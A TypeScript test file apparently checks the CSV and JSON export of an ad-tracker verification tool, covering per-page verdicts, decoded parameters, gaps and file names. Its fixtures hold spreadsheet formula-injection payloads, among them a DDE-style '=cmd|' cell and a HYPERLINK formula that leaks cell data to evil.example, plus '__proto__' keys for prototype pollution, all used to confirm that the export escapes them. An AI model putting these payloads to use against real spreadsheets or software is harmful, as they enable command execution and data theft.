import { describe, expect, it } from 'vitest';

import { exportCsv } from '@/lib/core/verification/export-csv';
import { exportJson, notKnownOf } from '@/lib/core/verification/export-json';
import { exportFileName } from '@/lib/core/verification/file-name';
import { judgeRecording } from '@/lib/core/verification/judge-recording';
import { findingSentence, say } from '@/lib/text/findings';
import { notKnownText } from '@/lib/text/export/not-known';

import { known, pageView, request, START, tracker, verification } from './build';

const pageViews = [pageView('a', START)];
const recording = judgeRecording(
  {
    verification: verification({ expectedIds: [531, 777] }),
    pageViews,
    requests: [
      request(
        'https://ib.adnxs.com/imptr?id=531&t=2&cachebuster=%3D1%2B1&x=a%2Cb&redir=https://y/?a=1',
        { status: 302, redirectUrl: 'https://y/?a=1' },
      ),
      request('https://ib.adnxs.com/imptr?id=532&t=2&cachebuster=[CACHEBUSTER]'),
    ],
  },
  known(tracker(531, { name: '=cmd|"x"' })),
  'all',
);

describe('exportCsv', () => {
  const lines = exportCsv(recording, findingSentence).split('\r\n');

  it('has a heading, a line for each request and one for each tracker not seen', () => {
    expect(lines).toHaveLength(5);
    expect(lines[0]).toMatch(
      /^\uFEFFtime,page,frame,tracker_id,tracker_name,verdict,t,cachebuster/,
    );
    expect(lines[3]).toMatch(/,777,,not-seen,/);
    expect(lines[4]).toBe('');
  });

  it('decodes parameters and guards cells', () => {
    expect(lines[1]).toContain(`531,"'=cmd|""x""",pass,2,'=1+1,,https://y/?a=1,"x=a,b"`);
    expect(lines[1]).toMatch(/^2026-11-24T10:00:10.000Z,https:\/\/news.example\/a,/);
  });

  it('whatever a page puts into its addresses, no piece of a cell is a formula', () => {
    const url =
      'https://ib.adnxs.com/imptr?id=%EF%BC%9D1%2B1&t=%0A%3D1&cachebuster=1;=HYPERLINK("http://evil.example/?"%26A1);';
    const evil = { verification: verification(), pageViews, requests: [request(url)] };
    const text = exportCsv(judgeRecording(evil, known()), findingSentence);
    expect(text).toContain(",'＝1+1,");
    expect(text).toContain(`;'=HYPERLINK(`);
    expect(text).not.toMatch(/(?:^|[;,\t\r\n])["\s]*[=+\-@＝＋－＠]/);
  });

  it('says the findings in words', () => {
    expect(lines[2]).toContain(
      'error: The cachebuster was not filled in: [CACHEBUSTER] is a macro of',
    );
  });
});

describe('exportJson', () => {
  it('holds verdicts, page views and decoded requests', () => {
    const value: unknown = JSON.parse(exportJson(recording, say, START));
    expect(value).toMatchObject({
      format: 'piggyback-verification',
      version: 1,
      expected: [
        { trackerId: 531, verdict: 'pass', fired: 1 },
        { trackerId: 777, name: null, verdict: 'not-seen' },
      ],
      pageViews: [{ id: 'a', startedAt: '2026-11-24T10:00:00.000Z' }],
      requests: [
        {
          trackerId: 531,
          pageViewId: 'a',
          parameters: [
            { name: 'id', value: '531' },
            { name: 't', value: '2' },
            { name: 'cachebuster', value: '=1+1' },
            { name: 'x', value: 'a,b' },
            { name: 'redir', value: 'https://y/?a=1' },
          ],
        },
        { trackerId: 532, findings: [{ code: 'tracker-unknown' }, { code: 'cachebuster-macro' }] },
      ],
    });
  });
});

it('every parameter is exported as often as it was sent, whatever its name', () => {
  const url = 'https://ib.adnxs.com/imptr?id=531&t=2&id=777&__proto__=1&constructor=2';
  const read: unknown = JSON.parse(
    exportJson(
      judgeRecording(
        { verification: verification(), pageViews, requests: [request(url)] },
        known(),
      ),
      say,
      START,
    ),
  );
  expect(read).toMatchObject({
    requests: [
      {
        trackerId: 531,
        parameters: [
          { name: 'id', value: '531' },
          { name: 't', value: '2' },
          { name: 'id', value: '777' },
          { name: '__proto__', value: '1' },
          { name: 'constructor', value: '2' },
        ],
      },
    ],
  });
});

describe('what is not known of a recording', () => {
  const unsure = judgeRecording(
    {
      verification: verification({ clearedAt: START + 5000, openedAfterLoad: true }),
      pageViews,
      requests: [request()],
      unreadable: 3,
    },
    { ...known(), trackers: { byId: new Map(), loaded: false } },
  );
  const notes = notKnownText({ ...notKnownOf(unsure), file: null });

  it('stands in the JSON', () => {
    expect(JSON.parse(exportJson(unsure, say, START))).toMatchObject({
      openedAfterLoad: true,
      mayMissFirstPage: false,
      clearedAt: '2026-11-24T10:00:05.000Z',
      unreadable: 3,
      trackersLoaded: false,
    });
  });

  it('stands in the sheet, in lines of no tracker', () => {
    const lines = exportCsv(unsure, findingSentence, notes).trimEnd().split('\r\n').slice(2);
    expect(lines).toHaveLength(4);
    for (const line of lines) expect(line).toMatch(/^,{14}not known,/);
    expect(lines.join('\n')).toContain('until 2026-11-24 10:00:05 UTC was deleted by hand');
    expect(lines.join('\n')).toContain('3 rows of the recording cannot be read');
  });

  it('is nothing where all is known', () => {
    expect(notKnownText({ ...notKnownOf(recording), file: null })).toEqual([]);
    expect(JSON.parse(exportJson(recording, say, START))).toMatchObject({
      clearedAt: null,
      unreadable: 0,
    });
  });
});

describe('a proof of several page views', () => {
  const views = [pageView('a', START), { ...pageView('b', START + 20_000), isMove: true }];
  const blocked = { outcome: 'blocked-by-page', status: 0 } as const;
  const several = judgeRecording(
    {
      verification: verification({
        expectedIds: [531, 777],
        gaps: [{ from: START + 31_000, to: START + 35_000 }],
      }),
      pageViews: views,
      requests: [
        request(undefined, { startedAt: START + 1 }),
        request('https://ib.adnxs.com/imptr?id=531&t=2&cachebuster=2', {
          startedAt: START + 21_000,
          ...blocked,
        }),
      ],
    },
    known(tracker(531)),
    'all',
  );
  const [heads = '', ...lines] = exportCsv(several, findingSentence).trimEnd().split('\r\n');
  const columns = heads.replace('\uFEFF', '').split(',');
  const cells = (line: string, ...names: string[]) =>
    names.map((name) => line.split(',')[columns.indexOf(name)]);

  it('says in each line the verdict on its own page view, and how often it fired there', () => {
    expect(lines.map((line) => cells(line, 'page', 'tracker_id', 'verdict'))).toEqual([
      ['https://news.example/a', '531', 'pass'],
      ['https://news.example/b', '531', 'fail'],
      ['https://news.example/a', '777', 'not-seen'],
      ['https://news.example/b', '777', 'not-seen'],
      ['', '', ''],
    ]);
    expect(lines.slice(2, 4).map((line) => cells(line, 'fired', 'page_since'))).toEqual([
      ['0', '2026-11-24T10:00:00.000Z'],
      ['0', '2026-11-24T10:00:20.000Z'],
    ]);
    expect(lines[1]).toContain(',0,2026-11-24T10:00:20.000Z,');
    expect(cells(lines[4] ?? '', 'time', 'outcome', 'duration_ms')).toEqual([
      '2026-11-24T10:00:31.000Z',
      'not recorded',
      '4000',
    ]);
  });

  it('has them in the JSON with each page view, with when nobody recorded', () => {
    const value: unknown = JSON.parse(exportJson(several, say, START));
    expect(value).toMatchObject({
      judgedOn: null,
      trackersLoaded: true,
      mayMissFirstPage: false,
      gaps: [{ from: '2026-11-24T10:00:31.000Z', to: '2026-11-24T10:00:35.000Z' }],
      expected: [{ trackerId: 531, verdict: 'fail', fired: 1 }, { verdict: 'not-seen' }],
      pageViews: [
        { isMove: false, expected: [{ verdict: 'pass', fired: 1 }, { verdict: 'not-seen' }] },
        { isMove: true, expected: [{ verdict: 'fail', fired: 0 }, { verdict: 'not-seen' }] },
      ],
    });
  });
});

describe('the name of the file', () => {
  it.each([
    [START, 'json', 'piggyback-2026-11-24T10-00-00Z.json'],
    [START, 'csv', 'piggyback-2026-11-24T10-00-00Z.csv'],
    [START + 999, 'csv', 'piggyback-2026-11-24T10-00-00Z.csv'],
    [Date.UTC(2027, 0, 1, 23, 59, 59), 'json', 'piggyback-2027-01-01T23-59-59Z.json'],
  ] as const)('of what began at %i, as %s, is %s', (startedAt, kind, name) => {
    expect(exportFileName(startedAt, kind)).toBe(name);
  });
});
